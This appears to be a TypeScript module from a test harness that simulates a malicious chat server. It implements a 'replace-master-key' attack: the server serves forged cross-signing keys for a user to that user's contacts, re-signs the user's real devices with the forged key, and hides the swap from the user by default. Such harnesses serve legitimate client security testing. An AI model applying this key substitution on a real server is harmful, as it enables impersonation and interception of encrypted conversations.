// Master-key replacement: the server serves a user's contacts cross-signing
// keys it made itself (a reset the user never made), and by default signs the
// user's real devices with its own self-signing key, so they look cross-signed
// under the new identity. The user's own view stays honest unless asked
// (`includeOwner`), as a careful attacker would keep it.

import * as v from 'valibot';
import { crossSignDevice, makeCrossSigning } from '../crypto/device-keys';
import { secretOf } from '../crypto/keys';
import { notFound } from '../errors';
import type { DeviceKeys } from '../state/keys';
import { servedTo, userIdParam, viewerParam } from './params';
import type { AttackDefinition } from './definition';

const params = v.object({
  user: userIdParam,
  /** Also serve the new keys to the user themself (their own client then sees its identity replaced). */
  includeOwner: v.optional(v.boolean(), false),
  /** Sign the user's real devices with the new self-signing key (default), or leave them signed by the old one only. */
  resignDevices: v.optional(v.boolean(), true),
  viewer: viewerParam,
});

export const replaceMasterKey: AttackDefinition<v.InferOutput<typeof params>> = {
  kind: 'replace-master-key',
  description: 'serve server-made cross-signing keys for a user (an identity reset they did not make)',
  params,
  apply(hs, { user, includeOwner, resignDevices, viewer }) {
    if (!hs.accounts.account(user)) throw notFound(`unknown user ${user}`);
    const made = makeCrossSigning(user);
    const signed = new Map<string, { source: string; signed: DeviceKeys }>();
    const resign = (device: DeviceKeys): DeviceKeys => {
      const source = JSON.stringify(device);
      let cached = signed.get(device.device_id);
      if (cached?.source !== source)
        signed.set(device.device_id, (cached = { source, signed: crossSignDevice(device, made.keys.selfSigning) }));
      return structuredClone(cached.signed);
    };
    hs.keys.markChanged(user);
    return {
      summary: {
        user,
        includeOwner,
        resignDevices,
        viewer: viewer ?? null,
        masterKey: made.keys.master.publicKey,
        selfSigningKey: made.keys.selfSigning.publicKey,
        userSigningKey: made.keys.userSigning.publicKey,
        secretKeys: {
          master: secretOf(made.keys.master),
          selfSigning: secretOf(made.keys.selfSigning),
          userSigning: secretOf(made.keys.userSigning),
        },
      },
      overlay: {
        userKeys: (userId, seenBy, keys) => {
          if (userId !== user || !servedTo(viewer, seenBy) || (seenBy === user && !includeOwner)) return keys;
          const devices = resignDevices ? Object.fromEntries(Object.entries(keys.devices).map(([id, d]) => [id, resign(d)])) : keys.devices;
          return {
            devices,
            master: structuredClone(made.master),
            selfSigning: structuredClone(made.selfSigning),
            ...(keys.userSigning ? { userSigning: structuredClone(made.userSigning) } : {}),
          };
        },
      },
      undo: () => hs.keys.markChanged(user),
    };
  },
};
